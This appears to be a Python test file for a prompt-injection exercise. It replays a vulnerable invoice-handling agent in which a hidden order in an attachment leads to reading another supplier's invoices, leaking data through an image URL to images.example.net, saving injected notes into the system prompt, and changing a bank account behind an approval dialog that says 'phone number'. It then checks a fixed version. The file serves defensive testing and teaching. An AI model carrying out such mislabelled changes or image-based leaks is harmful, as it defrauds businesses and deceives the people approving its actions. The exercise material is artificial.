"""Runs the listing to produce the log, shows each fault, and holds the fixed version to what the key demands."""

import importlib.util
import logging
from pathlib import Path
from types import SimpleNamespace as N


def module(name):
    path = Path(__file__).with_name(name)
    spec = importlib.util.spec_from_file_location(path.stem, path)
    made = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(made)
    return made


assert round(1 - 0.995**20, 2) == 0.10  # 10%
due = {"Hilltop": 84_000, "Bramble": 51_000, "Kestrel": 37_000}
assert sum(due.values()) == 172_000 and due["Bramble"] + due["Kestrel"] == 88_000
wrong, fixed = module("listing.py"), module("fixed.py")
text = Path(__file__).with_name("question.md").read_text(encoding="utf-8")
table = [[cell.strip() for cell in row.strip("|").split("|")] for row in text.splitlines() if row.startswith("|")]
log = [row[1:] for row in table if row[0][:3] in ("Mon", "Wed") and len(row) == 3]
slip = [row for row in table if len(row) == 5 and row[3].startswith("change_bank")]
hidden = [row[3][12:-1] for row in slip if "bank account" not in row[2]]
assert hidden == ["Hilltop", "Bramble", "Kestrel"] and len(slip) == 5  # the three to hold
assert "99.5% of hostile texts" in text  # X3
when = [row[0].split()[0] for row in slip if row[3][12:-1] in hidden]
assert when == ["Wed", "Fri", "Fri"]  # two of the three came before Monday's email
for row in slip:
    name = row[3][12:-1]
    assert name in row[2] and (row[1] == name) == (name not in hidden)
    assert name not in due or row[4] == f"${due[name]:,}"


class Database:
    def __init__(self, entry):
        self.entry, self.updates, self.asked = entry, [], []

    def connect(self, user, supplier=None):
        return self

    def rows(self, table, supplier):
        self.asked.append(supplier)
        if table == "suppliers":
            return [{"account": "OLD"}]
        self.entry(f"find_invoices({supplier}): 41 rows")
        return ["row of " + supplier] * 41

    def text(self, name):
        self.entry(f"read_attachment({name})")
        return "HIDDEN ORDER"

    def update(self, table, supplier, **values):
        self.entry(f"change_bank({supplier})")
        self.updates.append((supplier, values))


class Memory(list):
    def __init__(self, entry):
        super().__init__()
        self.entry = entry

    def append(self, note):
        super().append(note)
        self.entry("note saved")

    def read(self):
        return "\n".join(self)


def step(tool=None, args=None, note=None, summary="", text=""):
    return N(tool=tool, args=args or {}, note=note, summary=summary, text=text)


def player(steps):
    left, seen = list(steps), []

    def model(system, messages):
        seen.append((system, list(messages)))
        return left.pop(0)

    return model, seen


# the log of the prompt, written by the listing itself
entries, sender = [], "Norton"


def entry(what):
    entries.append([sender, what])


def markdown(text, load_images):
    loads = load_images and "https://" in text
    entry("draft shown" + (", 1 image loaded from images.example.net" if loads else ""))
    return text


def ask_person(summary):
    entry(f'dialog "{summary}": approved')
    return True


preview = N(markdown=markdown)
calm = N(hostile=lambda text: "HIDDEN" in text)
monday = [
    step("read_attachment", {"file": "offer.pdf"}),
    step("find_invoices", {"supplier": "Hilltop"}),
    step(text="![x](https://images.example.net/?d=41)", note="NOTE FROM FILE"),
]
wednesday = [
    step("change_bank", {"supplier": "Hilltop", "account": "X"}, summary="Update the phone number of Hilltop"),
    step(text="It arrives on Friday."),
]
db, memory = Database(entry), Memory(entry)
model, seen = player(monday)
wrong.handle(N(body="an offer"), model, wrong.Tools(db), calm, memory, ask_person, preview)
assert db.asked == ["Hilltop"]  # F2: Norton's email, Hilltop's rows
assert "HIDDEN ORDER" in str(seen[1][1])  # F1: no guard saw it
sender = "Pearl"
model, seen = player(wednesday)
wrong.handle(N(body="when does it arrive?"), model, wrong.Tools(db), calm, memory, ask_person, preview)
assert "NOTE FROM FILE" in seen[0][0]  # F4
assert db.updates == [("Hilltop", {"account": "X"})]  # F5: the dialog said "phone number"
assert entries == log, entries

# F6: a guard that raises
broken = N(hostile=lambda text: 1 / 0)
model, _ = player([step(text="done")])
assert wrong.handle(N(body="HIDDEN"), model, None, broken, Memory(entry), None, preview) == "done"


# the fixed version
def run(steps, guard, accountant=False, body="hello", files=("offer.pdf",)):
    entries.clear()
    db, asked, queue, shown = Database(entry), [], [], []
    tools = fixed.Tools(db, "Norton", set(files))
    model, seen = player(steps)
    result = fixed.handle(
        N(body=body), model, tools, guard, N(put=queue.append),
        lambda change: asked.append(change) or accountant,
        N(markdown=lambda text, load_images: shown.append(load_images) or text),
    )  # fmt: skip
    return N(result=result, db=db, asked=asked, queue=queue, shown=shown, seen=seen)


blind = N(hostile=lambda text: False)
done = step(text="ok")
assert run([done], calm, body="HIDDEN").result == "to a person"
first = run(monday, calm)
assert first.result == "to a person" and len(first.seen) == 1  # X1: the attachment is checked
other = run([step("find_invoices", {"supplier": "Hilltop"}), done], blind)
assert other.result == "to a person" and other.db.asked == []  # M1: refused, and nothing is read
assert run([step("find_invoices", {"supplier": "Norton"}), done], blind).result == "ok"
assert run([step("read_attachment", {"file": "else.pdf"}), done], blind).result == "to a person"
assert run([step("getattr", {}), done], blind).result == "to a person"
assert run([done], blind).shown == [False]  # M2
noted = run([step("find_invoices", {"supplier": "Norton"}, note="NOTE"), done], blind)
assert all(system == fixed.RULES for system, _ in noted.seen) and "NOTE" not in str(noted.seen)  # M3
change = run([wednesday[0], done], blind, accountant=True)
assert (change.result, change.asked, change.queue, change.db.updates) == ("to a person", [], [], [])  # M1
mine = step("change_bank", {"supplier": "Norton", "account": "X"}, summary="phone")
for accountant in (True, False):
    change = run([mine, done], blind, accountant=accountant)
    real = {"supplier": "Norton", "old": "OLD", "new": "X"}
    assert change.asked == [real] and change.db.updates == []  # M4: real arguments, old beside new
    assert change.queue == ([real] if accountant else []) and change.result == "ok"
alerts, listener = [], logging.Handler()
listener.emit = alerts.append
logging.getLogger().addHandler(listener)
assert run([done], broken).result == "to a person" and len(alerts) == 1  # X4: fail closed, and alert
assert run([mine] * 10, blind).result == "handed over"
